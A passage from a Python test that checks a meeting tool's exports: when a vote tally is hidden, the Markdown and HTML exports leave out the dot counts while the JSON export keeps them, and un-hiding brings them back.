    tally is revealed (the JSON keeps them, with `tally_hidden`, as documented)."""
    store = Store.open(sample_copy)
    try:
        q = store.default_quarter().id
        store.start_meeting(q, backup=False)
        people = [s.id for s in store.stakeholders()][:2]
        store.set_attendance(q, people)
        store.set_meeting(q, tally_hidden=True)
        block = store.blocks(q)[0]
        store.set_votes(block.id, {people[0]: 2, people[1]: 1})
        for fmt in ("md", "html"):
            shown = export(store, q, fmt)
            assert " dots" not in shown and "3 dot" not in shown, fmt
        assert json.loads(export(store, q, "json"))["blocks"][0]["dots"] == 3
        store.set_meeting(q, tally_hidden=False)
        assert "3 dots" in export(store, q, "md") and "3 dots" in export(store, q, "html")
    finally:
        store.close()
